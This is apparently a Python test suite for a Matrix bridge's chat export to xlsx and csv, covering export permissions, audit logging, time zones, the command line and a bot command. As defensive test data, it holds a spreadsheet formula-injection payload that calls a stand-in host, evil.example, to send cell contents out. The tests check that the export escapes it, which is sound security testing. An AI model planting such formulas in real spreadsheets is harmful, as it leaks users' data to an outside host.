"""Chat export (docs/export.md) on the real Synapse: every kind of event in a chat, exported as
xlsx and csv and read back cell by cell; who may export; the audit row; days in the practice's time
zone; the command line; and ``!pb export`` delivering the file privately."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import shutil
import subprocess
import sys
import uuid
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote
from zoneinfo import ZoneInfo

import openpyxl
from mautrix.api import Method, PathBuilder
from mautrix.types import EventID, RoomID, UserID
from mautrix.util.async_db import Scheme

from bridge.app import Bridge
from bridge.export.rows import headings
from config import load_config
from tests.clients import ApiClient, HomeserverInfo, MatrixClient, Reply, eventually
from tests.test_openapi import contract

BERLIN = ZoneInfo("Europe/Berlin")
HEADINGS = headings("Europe/Berlin")
AWAY = "Back on Monday – für Notfälle 112."
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'
V3 = "/_matrix/client/v3"


# -- helpers -------------------------------------------------------------------------------


def local(ts: int) -> datetime:
    return datetime.fromtimestamp(ts // 1000, BERLIN).replace(tzinfo=None)


def csv_time(ts: int) -> str:
    return datetime.fromtimestamp(ts // 1000, BERLIN).isoformat(" ")


async def export(
    api: ApiClient, who: MatrixClient | None, chat_id: str, **params: str
) -> tuple[int, dict[str, str], bytes]:
    """GET the export as ``who`` (or as the backend with the given params)."""
    token = who.token if who is not None else api.secret
    async with api.session.get(
        f"{api.base}/chats/{quote(chat_id)}/export",
        params=params,
        headers={"Authorization": f"Bearer {token}"},
    ) as resp:
        return resp.status, dict(resp.headers), await resp.read()


async def export_reply(
    api: ApiClient, who: MatrixClient | None, path: str, **params: str
) -> Reply:
    r = await api.call("GET", path, token=who.token if who else None, params=params or None)
    contract().check("GET", path, r)
    return r


def xlsx_sheets(data: bytes) -> tuple[list[tuple[Any, ...]], list[tuple[Any, ...]]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Messages", "Chat"]
    messages = list(book["Messages"].iter_rows(values_only=True))
    chat = list(book["Chat"].iter_rows(values_only=True))
    return messages, chat


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def as_csv(row: tuple[Any, ...]) -> list[str]:
    """The csv form of an expected xlsx row."""
    out = []
    for i, value in enumerate(row):
        if value is None:
            out.append("")
        elif i in (1, 12, 13):
            out.append(value)  # already the csv time (see expected rows)
        else:
            out.append(str(value))
    return out


async def upload(api: ApiClient, who: MatrixClient, data: bytes, name: str, mime: str) -> str:
    async with api.session.post(
        f"{who.base}/_matrix/media/v3/upload",
        params={"filename": name},
        data=data,
        headers={"Authorization": f"Bearer {who.token}", "Content-Type": mime},
    ) as resp:
        assert resp.status == 200, await resp.text()
        return str((await resp.json())["content_uri"])


async def download(api: ApiClient, who: MatrixClient, link: str) -> bytes:
    async with api.session.get(link, headers={"Authorization": f"Bearer {who.token}"}) as resp:
        assert resp.status == 200, await resp.text()
        return await resp.read()


async def redact(who: MatrixClient, room: str, event_id: str) -> str:
    r = await who.request(
        "PUT", f"{V3}/rooms/{quote(room)}/redact/{quote(event_id)}/{uuid.uuid4().hex}", {}
    )
    assert r.status == 200, r.body
    return str(r.body["event_id"])


async def ts_of(bridge: Bridge, room: str, event_id: str) -> int:
    ev = await bridge.rooms.get_event(RoomID(room), EventID(event_id))
    assert ev is not None
    return int(ev["origin_server_ts"])


async def send_at(
    bridge: Bridge, room: str, user_id: str, body: str, ts: int, reply_to: str | None = None
) -> str:
    """Send as a namespace user with the appservice's timestamp massaging (``?ts=``)."""
    content: dict[str, Any] = {"msgtype": "m.text", "body": body}
    if reply_to:
        content["m.relates_to"] = {"m.in_reply_to": {"event_id": reply_to}}
    resp = await bridge.az.intent.user(UserID(user_id)).api.request(
        Method.PUT,
        PathBuilder(f"{V3}/rooms/{quote(room, safe='')}/send/m.room.message/{uuid.uuid4().hex}"),
        content,
        query_params={"ts": str(ts)},
    )
    return str(resp["event_id"])


def berlin_ms(year: int, month: int, day: int, hour: int, minute: int = 0) -> int:
    return int(datetime(year, month, day, hour, minute, tzinfo=BERLIN).timestamp() * 1000)


async def audit_exports(api: ApiClient, practice_id: str) -> list[dict[str, Any]]:
    r = await api.call("GET", "/audit", params={"practice_id": practice_id, "limit": "1000"})
    assert r.status == 200, r.body
    return [e for e in r.body["entries"] if e["action"] == "chat.exported"]


# -- every kind of event, cell by cell ----------------------------------------------------------


async def test_every_kind_of_message_exports_to_xlsx_and_csv_cell_by_cell(
    api: ApiClient, practice_id: str, bridge: Bridge, homeserver: HomeserverInfo
) -> None:
    staff, client = await api.staff_and_client(practice_id)
    room = await api.direct_chat(staff, client_id="c1")

    hello = await client.sent(room, {"msgtype": "m.text", "body": "Hello 👋 Grüße — こんにちは"})
    pdf = b"%PDF-1.4 notes"
    pdf_uri = await upload(api, staff, pdf, "notes.pdf", "application/pdf")
    note = await staff.sent(
        room,
        {
            "msgtype": "m.file",
            "body": "notes.pdf",
            "filename": "notes.pdf",
            "url": pdf_uri,
            "info": {"mimetype": "application/pdf", "size": len(pdf)},
        },
    )
    ogg = b"OggS" + bytes(60)
    ogg_uri = await upload(api, client, ogg, "Voice message.ogg", "audio/ogg")
    voice = await client.sent(
        room,
        {
            "msgtype": "m.audio",
            "body": "Voice message.ogg",
            "url": ogg_uri,
            "info": {"mimetype": "audio/ogg", "size": len(ogg), "duration": 2300},
            "org.matrix.msc1767.audio": {"duration": 2300},
            "org.matrix.msc3245.voice": {},
        },
    )
    reply = await staff.sent(
        room,
        {
            "msgtype": "m.text",
            "body": f"> <{client.user_id}> Hello 👋 Grüße — こんにちは\n\nThanks, see the notes.",
            "m.relates_to": {"m.in_reply_to": {"event_id": hello}},
        },
    )
    # Reactions: two people give 👍, one takes a ❤️ back; 🎉 on the reply.
    for who, key, target in ((client, "👍", hello), (staff, "👍", hello), (client, "🎉", reply)):
        await who.sent(
            room,
            {"m.relates_to": {"rel_type": "m.annotation", "event_id": target, "key": key}},
            "m.reaction",
        )
    heart = await staff.sent(
        room,
        {"m.relates_to": {"rel_type": "m.annotation", "event_id": hello, "key": "❤️"}},
        "m.reaction",
    )
    await redact(staff, room, heart)
    edited_text = "Hello 👋 Grüße — こんにちは, Привет!"
    edit = await client.sent(
        room,
        {
            "msgtype": "m.text",
            "body": f"* {edited_text}",
            "m.new_content": {"msgtype": "m.text", "body": edited_text},
            "m.relates_to": {"rel_type": "m.replace", "event_id": hello},
        },
    )
    gone = await client.sent(room, {"msgtype": "m.text", "body": "Please forget my address"})
    removal = await redact(client, room, gone)
    formula = await client.sent(room, {"msgtype": "m.text", "body": FORMULA})

    # A real automatic reply: the practitioner's autoresponder answers the next message.
    auto = {"enabled": True, "message": AWAY, "periods": []}
    r = await api.call("PUT", "/settings", {"autoresponder": auto}, token=staff.token)
    assert r.status == 200, r.body
    question = await client.sent(room, {"msgtype": "m.text", "body": "Are you there?"})

    async def auto_reply() -> str | None:
        await bridge.autoresponses.send_due()
        r = await client.request(
            "GET", f"{V3}/rooms/{quote(room)}/messages", params={"dir": "b", "limit": "5"}
        )
        for ev in r.body["chunk"]:
            if "org.practicebridge.auto_reply" in ev["content"]:
                return str(ev["event_id"])
        return None

    answer = await eventually(auto_reply)

    t = {e: await ts_of(bridge, room, e) for e in (hello, note, voice, reply, edit, gone)}
    t |= {e: await ts_of(bridge, room, e) for e in (removal, formula, question, answer)}
    hs = homeserver.url
    pdf_link = f"{hs}/_matrix/client/v1/media/download/{pdf_uri.removeprefix('mxc://')}"
    ogg_link = f"{hs}/_matrix/client/v1/media/download/{ogg_uri.removeprefix('mxc://')}"
    quote_hello = f"Client c1, {local(t[hello]):%Y-%m-%d %H:%M}: {edited_text}"

    def expected(time: Any) -> list[tuple[Any, ...]]:
        c, s = ("Client c1", "client"), ("Staff s1", "practitioner")
        return [
            (1, time(t[hello]), *c, None, "text", edited_text, None, None, None, None,
             "👍 2", time(t[edit]), None, None, hello),
            (2, time(t[note]), *s, None, "file", None, "notes.pdf", len(pdf), pdf_link, None,
             None, None, None, None, note),
            (3, time(t[voice]), *c, None, "voice note", None, "Voice message.ogg", len(ogg),
             ogg_link, None, None, None, None, None, voice),
            (4, time(t[reply]), *s, None, "text", "Thanks, see the notes.", None, None, None,
             quote_hello, "🎉 1", None, None, None, reply),
            (5, time(t[gone]), *c, None, "deleted", None, None, None, None, None, None, None,
             time(t[removal]), None, gone),
            (6, time(t[formula]), *c, None, "text", "'" + FORMULA, None, None, None, None, None,
             None, None, None, formula),
            (7, time(t[question]), *c, None, "text", "Are you there?", None, None, None, None,
             None, None, None, None, question),
            (8, time(t[answer]), *s, None, "notice", AWAY, None, None, None, None, None, None,
             None, "yes", answer),
        ]  # fmt: skip

    # xlsx: every cell as openpyxl reads it back.
    status, headers, data = await export(api, staff, room, format="xlsx")
    assert status == 200, data[:300]
    today = datetime.now(BERLIN).date().isoformat()
    assert headers["Content-Type"].startswith("application/vnd.openxmlformats")
    assert headers["Content-Disposition"] == (
        f'attachment; filename="Client c1 {today}.xlsx"; '
        f"filename*=UTF-8''Client%20c1%20{today}.xlsx"
    )
    messages, chat = xlsx_sheets(data)
    assert messages[0] == tuple(HEADINGS)
    assert messages[1:] == expected(local)
    # The injected formula is a plain string cell: no formula anywhere in the sheet.
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book["Messages"].cell(row=7, column=7).data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    assert await download(api, client, pdf_link) == pdf  # the link is the download URL

    info = dict((label, value) for label, value in chat if label != "Member")
    assert [value for label, value in chat if label == "Member"] == [
        "Staff s1 (practitioner, chat owner)",
        "Client c1 (client)",
    ]
    assert info["Practice"] == f"Sunrise Wellness ({practice_id})"
    assert (info["Chat"], info["Kind"], info["Chat ID"]) == ("Client c1", "direct chat", room)
    assert (info["Time zone"], info["Period"], info["Messages"]) == (
        "Europe/Berlin",
        "whole history",
        "8",
    )
    assert info["Exported by"] == f"Staff s1 (practitioner, {staff.user_id})"
    assert info["Exported at"].startswith(today)
    assert info["Exported through"] == "API"

    # csv: the same rows, times with their offset, empty cells empty.
    status, headers, data = await export(api, staff, room, format="csv")
    assert status == 200
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert f"Client%20c1%20{today}.csv" in headers["Content-Disposition"]
    rows = csv_rows(data)
    assert rows[0] == HEADINGS
    assert rows[1:] == [as_csv(row) for row in expected(csv_time)]

    # Each export is one audit row naming who, what and how; message text never.
    entries = await audit_exports(api, practice_id)
    assert [(e["actor"], e["target"], e["details"]) for e in entries] == [
        (staff.user_id, room, {"format": f, "from": None, "to": None, "via": "api"})
        for f in ("csv", "xlsx")
    ]
    assert "Привет" not in str(entries)


# -- who may export ------------------------------------------------------------------------


async def test_who_may_export_staff_members_the_owner_and_clients_when_allowed(
    api: ApiClient, practice_id: str
) -> None:
    await api.setup_practice(
        practice_id,
        clients=("c1", "c2"),
        staff=(("s0", "owner"), ("s1", "practitioner"), ("s2", "team_member")),
    )
    owner = await api.session_for(practice_id, staff_id="s0")
    staff = await api.session_for(practice_id, staff_id="s1")
    team = await api.session_for(practice_id, staff_id="s2")
    c1 = await api.session_for(practice_id, client_id="c1")
    c2 = await api.session_for(practice_id, client_id="c2")
    room = await api.direct_chat(staff, client_id="c1")
    await c1.sent(room, {"msgtype": "m.text", "body": "Hi"})
    r = await api.call(
        "POST",
        "/chats/group",
        {"name": "Breathing class", "client_ids": ["c1", "c2"], "staff_ids": []},
        token=staff.token,
    )
    assert r.status == 201, r.body
    group = r.body["chat_id"]
    path = f"/chats/{quote(room)}/export"

    assert (await export(api, staff, room, format="csv"))[0] == 200  # a staff member of it
    assert (await export(api, owner, room, format="csv"))[0] == 200  # the practice owner
    r = await export_reply(api, team, path)  # an unshared team member: not even that it exists
    assert (r.status, r.errcode) == (404, "ORG.PRACTICEBRIDGE.UNKNOWN_CHAT")
    r = await export_reply(api, c1, path)  # clients only when the practice allows it
    assert (r.status, r.errcode) == (403, "ORG.PRACTICEBRIDGE.EXPORT_NOT_ALLOWED")
    r = await export_reply(api, c2, path)
    assert (r.status, r.errcode) == (404, "ORG.PRACTICEBRIDGE.UNKNOWN_CHAT")

    r = await api.call(
        "PUT", "/settings", {"practice": {"clients_may_export": True}}, token=owner.token
    )
    assert r.status == 200, r.body
    status, _, data = await export(api, c1, room, format="csv")
    assert status == 200
    assert [row[2:7] for row in csv_rows(data)[1:]] == [["Client c1", "client", "", "text", "Hi"]]
    r = await export_reply(api, c1, f"/chats/{quote(group)}/export")  # their own 1:1 only
    assert (r.status, r.errcode) == (403, "ORG.PRACTICEBRIDGE.EXPORT_NOT_ALLOWED")
    r = await export_reply(api, c2, path)
    assert (r.status, r.errcode) == (404, "ORG.PRACTICEBRIDGE.UNKNOWN_CHAT")
    # The portal backend acting for a staff member.
    status, _, _ = await export(api, None, room, format="xlsx", user_id=staff.user_id)
    assert status == 200

    entries = await audit_exports(api, practice_id)
    assert sorted((e["actor"], e["details"]["format"]) for e in entries) == sorted(
        [
            (staff.user_id, "csv"),
            (owner.user_id, "csv"),
            (c1.user_id, "csv"),
            (f"backend:{staff.user_id}", "xlsx"),
        ]
    )


async def test_bad_export_requests_are_json_errors_before_any_file(
    api: ApiClient, practice_id: str
) -> None:
    await api.setup_practice(practice_id)
    staff = await api.session_for(practice_id, staff_id="s1")
    room = await api.direct_chat(staff, client_id="c1")
    path = f"/chats/{quote(room)}/export"
    cases = [
        ({"format": "pdf"}, "format"),
        ({"from": "2025-02-30"}, "from"),
        ({"to": "01.03.2025"}, "to"),
        ({"from": "2025-03-02", "to": "2025-03-01"}, "to"),
    ]
    for params, param in cases:
        r = await export_reply(api, staff, path, **params)
        assert (r.status, r.errcode, r.body.get("param")) == (400, "M_INVALID_PARAM", param)
    r = await export_reply(api, staff, "/chats/not-a-chat/export")
    assert (r.status, r.errcode) == (400, "M_INVALID_PARAM")
    r = await export_reply(api, staff, f"/chats/{quote('!nothing:practice.test')}/export")
    assert (r.status, r.errcode) == (404, "ORG.PRACTICEBRIDGE.UNKNOWN_CHAT")
    r = await export_reply(api, None, path)  # the backend must name the user it acts for
    assert (r.status, r.errcode) == (400, "M_MISSING_PARAM")
    r = await api.call("GET", path, auth=False)
    assert (r.status, r.errcode) == (401, "M_MISSING_TOKEN")
    assert await audit_exports(api, practice_id) == []


# -- family members, days in the practice's time zone, the command line ----------------------


async def test_family_member_rows_days_in_practice_time_and_the_command_line_agree(
    api: ApiClient, practice_id: str, bridge: Bridge, homeserver: HomeserverInfo, tmp_path: Path
) -> None:
    await api.setup_practice(practice_id, clients=("c2",))
    r = await api.put_client(practice_id, "c3", name="Mia Example", family_primary_id="c2")
    assert r.status in (200, 201), r.body
    staff = await api.session_for(practice_id, staff_id="s1")
    parent = await api.session_for(practice_id, client_id="c2")
    room = await api.direct_chat(
        staff, client_id="c3"
    )  # the sub-record's chat: the primary's account is in it
    # Messages dated in the past with the appservice's timestamp massaging; the first just
    # after midnight Berlin time (still the 9th in UTC).
    sent = [
        (parent.user_id, "Mia has a cough", berlin_ms(2025, 1, 10, 0, 30)),
        (staff.user_id, "Bring her on Monday", berlin_ms(2025, 1, 20, 9, 30)),
        (parent.user_id, "=1+2 better now", berlin_ms(2025, 2, 5, 12)),
    ]
    ids: list[str] = []
    for user, body, ts in sent:  # the last one answers the first
        ids.append(await send_at(bridge, room, user, body, ts, ids[0] if len(ids) == 2 else None))
    cough = "Client c2, 2025-01-10 00:30: Mia has a cough"
    status, _, data = await export(api, staff, room, format="csv")
    assert status == 200
    rows = csv_rows(data)[1:]
    assert [(row[0], row[1], row[2:7]) for row in rows] == [
        ("1", "2025-01-10 00:30:00+01:00", ["Client c2", "family member", "Mia Example", "text",
                                            "Mia has a cough"]),
        ("2", "2025-01-20 09:30:00+01:00", ["Staff s1", "practitioner", "", "text",
                                            "Bring her on Monday"]),
        ("3", "2025-02-05 12:00:00+01:00", ["Client c2", "family member", "Mia Example", "text",
                                            "'=1+2 better now"]),
    ]  # fmt: skip
    assert [row[15] for row in rows] == ids
    assert [row[10] for row in rows] == ["", "", cough]

    # Whole days in the practice's time zone, both ends included.
    status, headers, data = await export(
        api, staff, room, format="xlsx", **{"from": "2025-01-10", "to": "2025-01-20"}
    )
    assert status == 200
    assert "Mia Example 2025-01-10 to 2025-01-20.xlsx" in headers["Content-Disposition"]
    messages, chat = xlsx_sheets(data)
    assert [(m[0], m[1], m[6]) for m in messages[1:]] == [
        (1, datetime(2025, 1, 10, 0, 30), "Mia has a cough"),
        (2, datetime(2025, 1, 20, 9, 30), "Bring her on Monday"),
    ]
    info = dict(chat)
    assert info["Period"] == "2025-01-10 to 2025-01-20"
    assert info["Member"] == "Mia Example (family member; messages through Client c2's account)"
    status, _, data = await export(api, staff, room, format="csv", **{"from": "2025-01-11"})
    rows = csv_rows(data)[1:]
    assert [row[6] for row in rows] == ["Bring her on Monday", "'=1+2 better now"]
    assert rows[1][10] == cough  # the message answered is before the period: fetched on its own
    status, _, data = await export(api, staff, room, format="csv", **{"from": "2025-03-01"})
    assert (status, csv_rows(data)[1:]) == (200, [])

    # The command line writes the same file, against the same homeserver and database.
    config_path = tmp_path / "cli.yaml"
    shutil.copy(homeserver.config.path, config_path)
    config = load_config(config_path)
    if bridge.db.scheme == Scheme.SQLITE:
        config.appservice.database = f"sqlite:{tmp_path / 'bridge.db'}"
    else:
        schema = await bridge.db.fetchval("SELECT current_schema()")
        dsn = os.environ["PRACTICE_BRIDGE_TEST_POSTGRES"]
        config.appservice.database = f"{dsn}?search_path={schema}"
    config.save()
    out = tmp_path / "export.csv"
    window = ["--from", "2025-01-10", "--to", "2025-01-20"]
    cli = [sys.executable, "-m", "bridge", "-c", str(config_path), "export", room]
    done = await asyncio.to_thread(
        subprocess.run,
        [*cli, "--format", "csv", "-o", str(out), "--as", "s1", *window],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    status, _, data = await export(
        api, staff, room, format="csv", **{"from": window[1], "to": window[3]}
    )
    assert csv_rows(out.read_bytes()) == csv_rows(data)
    done = await asyncio.to_thread(
        subprocess.run,
        [*cli, "--format", "xlsx", "-o", str(tmp_path / "all.xlsx")],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    messages, chat = xlsx_sheets((tmp_path / "all.xlsx").read_bytes())
    assert [m[6] for m in messages[1:]] == [
        "Mia has a cough",
        "Bring her on Monday",
        "'=1+2 better now",
    ]
    assert dict(chat)["Exported by"] == "the administrator (command line)"
    entries = await audit_exports(api, practice_id)
    assert [(e["actor"], e["details"]["via"]) for e in entries[:3]] == [
        ("cli", "cli"),
        (staff.user_id, "api"),
        (f"cli:{staff.user_id}", "cli"),
    ]


# -- the bot command -----------------------------------------------------------------------


async def test_bot_export_command_sends_the_file_to_the_private_room_only(
    api: ApiClient, practice_id: str, bridge: Bridge
) -> None:
    staff, client = await api.staff_and_client(practice_id)
    room = await api.direct_chat(staff, client_id="c1")
    await client.sent(room, {"msgtype": "m.text", "body": "Can I get our chat history?"})
    await staff.sent(room, {"msgtype": "m.text", "body": "!pb export csv"})

    async def delivered() -> dict[str, Any] | None:
        private = await bridge.commands.store.private_room(UserID(staff.user_id))
        if private is None:
            return None
        r = await staff.request(
            "GET", f"{V3}/rooms/{quote(private)}/messages", params={"dir": "b", "limit": "20"}
        )
        for ev in r.body.get("chunk", []):
            if ev["content"].get("msgtype") == "m.file":
                return dict(ev)
        return None

    file_event = await eventually(delivered, timeout=30)
    content = file_event["content"]
    assert content["body"].endswith(".csv") and content["body"].startswith("Client c1 ")
    assert content["info"]["mimetype"] == "text/csv; charset=utf-8"
    link = "/_matrix/client/v1/media/download/" + content["url"].removeprefix("mxc://")
    data = await download(api, staff, staff.base + link)
    assert content["info"]["size"] == len(data)
    rows = csv_rows(data)[1:]
    assert rows[0][2:7] == ["Client c1", "client", "", "text", "Can I get our chat history?"]
    # The command itself was taken out of the chat before the export read it.
    assert rows[1][2:7] == ["Staff s1", "practitioner", "", "deleted", ""]

    # Nothing of it in the client's room, and the client is not in the private room.
    r = await client.request(
        "GET", f"{V3}/rooms/{quote(room)}/messages", params={"dir": "b", "limit": "50"}
    )
    assert not [e for e in r.body["chunk"] if e["content"].get("msgtype") == "m.file"]
    sync = await client.request("GET", f"{V3}/sync", params={"timeout": "0"})
    assert set(sync.body["rooms"]["join"]) == {room}
    (entry,) = await audit_exports(api, practice_id)
    assert (entry["actor"], entry["details"]["via"]) == (staff.user_id, "bot")
